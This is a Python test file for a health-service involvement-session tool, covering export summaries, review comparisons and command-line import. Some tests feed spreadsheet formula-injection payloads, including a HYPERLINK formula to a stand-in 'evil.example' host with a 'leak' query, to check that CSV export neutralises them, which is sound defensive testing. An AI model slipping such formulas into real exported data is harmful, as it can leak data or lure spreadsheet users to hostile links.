    assert amount(1.5, "position") == "1.5 positions"
    assert amount(0, "level", sign=True) == "0 levels"
    assert amount(1, "level", sign=True) == "+1 level"
    assert amount(-1, "level", sign=True) == "−1 level"
    assert amount(-2.5, "level", sign=True) == "−2.5 levels"
    assert people(1) == "1 person"
    assert people(0) == "0 people"
    one_wide = Summary(n=2, counts=(), median=6.0, median_label="", lower_quartile=5.5, upper_quartile=6.5, spread=1.0)
    assert spread_text(one_wide, "position") == "1 position, from 5.5 to 6.5"


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
        "＝HYPERLINK(\"http://evil.example\")", "＋1", "－1", "＠SUM(A1)",
        "﹦1+1", "﹢1", "﹣1", "﹫SUM(A1)", "−1", "➖1", "➕1",
        " =1+1", "\u3000＝1+1", "\u00a0@SUM(A1)",
    ],
)
def test_csv_prefixes_every_formula_starter_and_its_look_alikes(cell: str) -> None:
    from exports._csv import neutralise

    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Nobody told us", "'quoted", "1", "a = b", "（note）", "", "— an aside"])
def test_csv_leaves_ordinary_text_alone(cell: str) -> None:
    from exports._csv import neutralise

    assert neutralise(cell) == cell
    assert neutralise(3) == 3


def test_a_full_width_formula_in_a_comment_reaches_the_csv_prefixed(room: Room, tmp_path: Path) -> None:
    made = room.session.add_comment("spectrum", "＝HYPERLINK(\"http://evil.example/?leak\",\"click\")")
    room.session.moderate(made.id, CommentState.APPROVED)
    comments = _read_csv(export_all(room, tmp_path)[f"{SESSION_ID}-comments.csv"])
    assert "'＝HYPERLINK(\"http://evil.example/?leak\",\"click\")" in [row["text"] for row in comments]
# -- the summary the record opens with ----------------------------------------------------

SUMMARY_START = {"md": "## Summary\n", "html": '<section aria-labelledby="summary"'}
SUMMARY_END = {"md": "## Who took part\n", "html": "</section>\n"}


def summary_parts(files: dict[str, bytes], session_id: str) -> dict[str, bytes]:
    """The summary alone, in each format: the Markdown and HTML sections, the JSON object, the CSV table."""
    parts = {}
    for fmt in ("md", "html"):
        text = files[f"{session_id}-record.{fmt}"].decode("utf-8")
        start = text.index(SUMMARY_START[fmt])
        end = text.index(SUMMARY_END[fmt], start) + (0 if fmt == "md" else len(SUMMARY_END[fmt]))
        parts[f"{session_id}-summary.{fmt}"] = text[start:end].encode("utf-8")
    data = json.loads(files[f"{session_id}-record.json"])
    parts[f"{session_id}-summary.json"] = (json.dumps(data["summary"], sort_keys=True, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
    parts[f"{session_id}-summary.csv"] = files[f"{session_id}-summary.csv"]
    return parts


def build_review(store: SessionStore) -> tuple:
    """A review six months on: the room grew, some figures got better and some worse; one earlier target done, one not yet."""
    baseline = build_room(store, "baseline-session").session
    review = build_room(store, "review-session", baseline_id="baseline-session").session
    care_plans, steering_group = sorted(baseline.targets.values(), key=lambda target: target.text)
    review.record_outcome(
        care_plans,
        "done",
        what_happened="Every review since May was co-written.",
        working_together="Slow at first; the ward manager now books the time.",
    )
    review.record_outcome(steering_group, "not_yet", what_happened="Funding was not agreed.")
    newcomers = [review.join("", role)[0].id for role in (Role.SERVICE_USER, Role.STAFF)]
    first = next(iter(review.participants))
    review.cast_vote(first, "spectrum", "place", 9)
    for pid in newcomers:
        review.cast_vote(pid, "spectrum", "place", 6)
        review.cast_vote(pid, "grid", grid_item("policy", "now"), 3)
        review.cast_vote(pid, "grid", grid_item("policy", "target"), 5)
        review.cast_vote(pid, "indicators", "listening", "not_met")
        review.cast_vote(pid, "indicators", "valuing", "met")
    review.set_present_without_phones(RoleGroup.LIVED, 1)
    review.set_present_without_phones(RoleGroup.STAFF, 2)
    review.set_head_count(12)
    return baseline, review


@pytest.fixture
def review_files(tmp_path: Path, fixed_ids) -> dict[str, bytes]:
    baseline, review = build_review(make_store(tmp_path / "sessions"))
    try:
        return {p.name: p.read_bytes() for p in export_session(review, FORMATS, tmp_path / "out", baseline=baseline)}
    finally:
        baseline.close()
        review.close()


def _check_golden(name: str, produced: bytes) -> None:
    golden = GOLDEN / name
    if UPDATE:
        golden.write_bytes(produced)
    assert golden.exists(), f"no golden file {golden}; run with UPDATE_GOLDEN=1"
    assert produced == golden.read_bytes(), f"{name} differs from {golden}; check the diff, then UPDATE_GOLDEN=1"


@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
def test_summary_matches_golden_file(room: Room, tmp_path: Path, fmt: str) -> None:
    name = f"{SESSION_ID}-summary.{fmt}"
    _check_golden(name, summary_parts(export_all(room, tmp_path / "out"), SESSION_ID)[name])


@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
def test_review_summary_matches_golden_file(review_files: dict[str, bytes], fmt: str) -> None:
    name = f"review-session-summary.{fmt}"
    _check_golden(name, summary_parts(review_files, "review-session")[name])


def test_the_record_opens_with_the_summary_before_the_detailed_tables(room: Room, tmp_path: Path) -> None:
    files = export_all(room, tmp_path)
    markdown = files[f"{SESSION_ID}-record.md"].decode()
    headings = [line for line in markdown.splitlines() if line.startswith("## ")]
    assert headings[:2] == ["## Summary", "## Who took part"]
    summary = markdown.split("## Summary", 1)[1].split("## Who took part", 1)[0]
    assert "| Service users co-write every care plan review. | Ward manager | 1 September 2026 |" in summary
    html = files[f"{SESSION_ID}-record.html"].decode()
    assert html.index('id="summary"') < html.index('id="who"') < html.index('id="activity-1"')
    csv_names = [name for name in files if name.endswith(".csv")]
    assert csv_names[0] == f"{SESSION_ID}-summary.csv", "the summary is the first table a spreadsheet user meets"


def test_summary_holds_who_was_there_and_the_presence_verdict(tmp_path: Path, fixed_ids) -> None:
    room = build_room(make_store(tmp_path / "sessions"))
    session = room.session
    try:
        session.set_present_without_phones(RoleGroup.LIVED, 2)
        session.set_head_count(12)
        summary = build_record(session).summary
        attendance = summary.attendance
        lived = {group.group: group for group in attendance.groups}["lived"]
        assert (lived.on_phones, lived.without_phones, lived.total) == (3, 2, 5)
        assert (attendance.on_phones, attendance.without_phones, attendance.head_count) == (8, 2, 12)
        assert attendance.presence.lived == 5 and attendance.presence.level == "ideal"
        assert attendance.presence.verdict.startswith("✔✔ Presence: ideal.")
        assert "4PI National Involvement Standards" in attendance.presence.standard
        data = json.loads(export_all(room, tmp_path / "out")[f"{SESSION_ID}-record.json"])
        assert data["summary"]["attendance"]["presence"]["level"] == "ideal"
        assert data["summary"]["attendance"]["head_count"] == 12
        assert data["summary"]["title"] == "Ward 7 involvement review" and data["summary"]["facilitator"] == "Sam Okafor"
    finally:
        session.close()


def test_summary_shows_no_figure_the_small_group_rules_hold_back(room: Room, tmp_path: Path) -> None:
    record = build_record(room.session)
    [placement] = record.summary.spectrum
    detail = next(a for a in record.activities if a.id == "spectrum")
    held = {group.group for group in detail.groups if group.results is None}
    assert held == {"lived", "other"}
    for group in placement.groups:
        if group.group in held:
            assert group.median is None
            assert group.text == next(g.note for g in detail.groups if g.group == group.group)
        else:
            assert group.median == detail.groups[[g.group for g in detail.groups].index(group.group)].results.placement.median
    files = export_all(room, tmp_path)
    rows = _read_csv(files[f"{SESSION_ID}-summary.csv"])
    spectrum = {row["item"]: row for row in rows if row["section"] == "spectrum"}
    assert spectrum["Service users and carers"]["value"] == "" and "not shown separately" in spectrum["Service users and carers"]["text"]
    assert spectrum["Staff"]["value"] == "5"


def test_summary_figures_read_in_the_number_vocabulary(room: Room) -> None:
    record = build_record(room.session)
    [placement] = record.summary.spectrum
    grid_activity = room.session.template.activity("grid")
    spectrum_activity = room.session.template.activity("spectrum")
    assert placement.text == numbers.placement(spectrum_activity, placement.median)
    [grid] = record.summary.grid
    policy = {area.area_id: area for area in grid.areas}["policy"]
    assert policy.target == 3.5
    assert policy.target_text == numbers.level_placement(grid_activity, 3.5)
    assert policy.gap_text == numbers.amount(2.5, "level", sign=True) == "+2.5 levels"
    # The grid's between-levels words are the vocabulary's, in the summary and in the detailed tables alike.
    detail = next(a for a in record.activities if a.id == "grid").results
    assert {area.id: area for area in detail.areas}["policy"].target.median_label == numbers.level(grid_activity, 3.5)
    assert numbers.level(grid_activity, 3.5).startswith("Halfway between ")


def test_review_summary_says_better_or_worse_in_the_frameworks_terms(review_files: dict[str, bytes]) -> None:
    data = json.loads(review_files["review-session-record.json"])
    review = data["summary"]["review"]
    assert review["earlier_date_label"] == "2 March 2026"
    changes = {(moved["title"], c["measure"]): c for moved in review["activities"] for c in moved["changes"]}
    listening = changes[("The seven indicators", "Listening: Not met")]
    # Two more said not met while the room grew from 5 to 7 answering: shares, with the counts beside them.
    assert listening["text"].startswith("2 of 5 (40%) → 4 of 7 (57%), +17 points")
    assert listening["word"] == "worse"
    policy = changes[("Five levels, three areas: now and next", "Policy: Level now (median)")]
    assert (policy["then"], policy["now"], policy["word"]) == ("1", "1.5", "better")
    # The summary keeps the progress section's own judged figures, word for word.
    comparison = data["comparison"]
    assert comparison["activities"][0]["kind"] == "spectrum"
    assert review["better"] + review["worse"] + review["unchanged"] <= len(changes)
    earlier = data["summary"]["earlier_targets"]
    assert earlier["text"] == "2 of 2 reviewed: 1 done, 0 partly done, 1 not yet."
    outcomes = {r["target"]["text"]: (r["outcome_label"], r["what_happened"]) for r in earlier["reviews"]}
    assert outcomes["Service users co-write every care plan review."] == ("Done", "Every review since May was co-written.")
    assert outcomes["Two paid service-user places | on the steering group"] == ("Not yet", "Funding was not agreed.")
    markdown = review_files["review-session-record.md"].decode()
    summary = markdown.split("## Who took part", 1)[0]
    assert "### Since 2 March 2026" in summary
    assert "### Targets agreed on 2 March 2026: how they went" in summary
    assert "   - **Outcome:** Not yet" in summary


def test_outcomes_reach_the_summary_when_the_earlier_session_is_not_at_hand(tmp_path: Path, fixed_ids) -> None:
    store = make_store(tmp_path / "sessions")
    baseline, review = build_review(store)
    try:
        files = {p.name: p.read_bytes() for p in export_session(review, ["md", "json"], tmp_path / "out")}
        summary = json.loads(files["review-session-record.json"])["summary"]
        assert summary["review"] is None, "no comparison without the earlier session"
        assert summary["earlier_targets"]["text"] == "2 of 2 reviewed: 1 done, 0 partly done, 1 not yet."
        markdown = files["review-session-record.md"].decode().split("## Who took part", 1)[0]
        assert "### Targets agreed at the earlier session: how they went" in markdown
        assert "   - **What happened:** Funding was not agreed." in markdown
    finally:
        baseline.close()
        review.close()


def test_a_review_imported_without_its_earlier_session_resumes_exports_and_compares(tmp_path: Path, fixed_ids) -> None:
    """A record exported alone may review a session that is not in this data folder: it is still
    imported whole, and every command that would compare says once that the earlier session is not here."""
    import subprocess
    import sys

    from sessions import earlier_session_absent

    made = make_store(tmp_path / "made" / "sessions")
    baseline, review = build_review(made)
    try:
        [review_path] = export_session(review, ["json"], tmp_path / "records", include_hidden=True)
        [baseline_path] = export_session(baseline, ["json"], tmp_path / "records", include_hidden=True)
    finally:
        baseline.close()
        review.close()
    data = tmp_path / "here"
    data.mkdir()
    env = {"INVOLVE_DATA_DIR": str(data), "PATH": "/usr/bin:/bin", "HOME": str(data), "PYTHONPATH": str(ROOT), "COLUMNS": "400"}

    def involve(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "tui", *args], capture_output=True, text=True, env=env, timeout=60, cwd=data)

    absent = " ".join(earlier_session_absent("baseline-session").split())
    imported = involve("import", str(review_path))
    assert imported.returncode == 0, imported.stderr
    assert "Imported" in imported.stdout and "Traceback" not in imported.stderr
    assert " ".join(imported.stderr.split()) == f"involve: warning: {absent}"
    exported = involve("export", "review-session", "--format", "md,json", "--include-hidden", "--out", str(tmp_path / "out"))
    assert exported.returncode == 0, exported.stderr
    assert " ".join(exported.stderr.split()) == f"involve: warning: {absent}"
    markdown = (tmp_path / "out" / "review-session-record-private.md").read_text(encoding="utf-8")
    assert "### Targets agreed at the earlier session: how they went" in markdown
    assert "Funding was not agreed." in markdown

    store = make_store(data / "sessions")
    again = store.open("review-session")  # resumes, writable
    try:
        assert len(again.outcomes) == 2 and again.baseline_id == "baseline-session"
        assert export_session(again, FORMATS, tmp_path / "again", include_hidden=True)
    finally:
        again.close()
    # Importing the earlier session's record afterwards adds the review, with no warning.
    assert involve("import", str(baseline_path)).returncode == 0
    exported = involve("export", "review-session", "--format", "md", "--out", str(tmp_path / "reviewed"))
    assert exported.returncode == 0 and exported.stderr == "", exported.stderr
    assert "### Since 2 March 2026" in (tmp_path / "reviewed" / "review-session-record.md").read_text(encoding="utf-8")
    compared = involve("compare", "baseline-session", "review-session")
    assert compared.returncode == 0 and compared.stderr == "", compared.stderr
